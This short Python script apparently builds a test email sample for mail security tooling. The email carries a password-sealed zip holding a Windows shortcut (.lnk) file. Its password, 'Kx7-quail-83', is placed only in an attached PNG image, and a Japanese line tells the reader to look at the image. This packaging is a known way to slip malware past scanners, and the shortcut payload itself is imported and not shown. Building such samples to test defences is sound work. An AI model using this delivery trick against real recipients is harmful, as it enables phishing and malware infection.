# The password stands in a picture, which is read only where that is wanted.
from parts import *

# "The password is: Kx7-quail-83", in DejaVu Sans of 16 pixels
PICTURE = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAUoAAAAsAgMAAAB+nRllAAAADFBMVEX////i4uKKioowMDCi"
    "6xQfAAAB/ElEQVR42u2UvY7TQBSFj8dSXIyUeYBo7Xol26mRIuQs0lKkQKJEQrQ0kCbFRiLy"
    "CF4gooCOR0AujJRiYSdykTZbU+wUTotcpMhKrM2dhL8mMVCB8CnsYjzfvXPOHQONGjVq9F9I"
    "VJW/bwlMmTePJua74vtCQjtizW/2Q1HL7K/paemfmVY+O+5Ef8Lcid81aLb8seJTtR5suZ8Z"
    "fEC8BI/lRd4qW6VzokfeOth0r8DmF7SPP0LPkbYCuykSwcsoqWeGg/4qBX+l8Uyc3ju987xI"
    "xpMwGsdg2eX0DPwcrgcu4bwmJhy1PXuKQ2cP7BdUlcsER220YWdJUrghCo+YEsQswCfGCWEZ"
    "prXcZWQfzMjOpA+OtFuKqZiyxUhr4UNTRllu/NzAXsMF1SMmq7TpczU72KfPFtVnYo5S1ymd"
    "0vp461Jz3zLMeWX8fApWILAq1zB5n5hxZvxUh5iZ2YlUu1S7E30K1bc+VYvS5gPpbND72mfb"
    "Mn3aKqhjKjPZiQ4pS1u+91Th+ls/FWgq+YkWT8jXrZ9em+2YdX3O88fgL/W7t0eDh4PoXMjx"
    "xIfJfXF/SRlFs0Aghcl9POQPDJOtZsfeQT/VMDfzOXxj/KSJiry1j+18VtIwb585kq4mzWf3"
    "qnWtd7l3rmsvPv+Vv0Pxez+Tf4XZqFGjRn+DvgDXBMicOR7J8gAAAABJRU5ErkJggg==")
message = mail(join([text_part("パスワードは画像をご覧ください。"),
                     file_part("資料.zip", sealed_zip({"資料.lnk": LNK}, "Kx7-quail-83")),
                     file_part("pw.png", PICTURE, "image/png")]), sender="info@other.example")
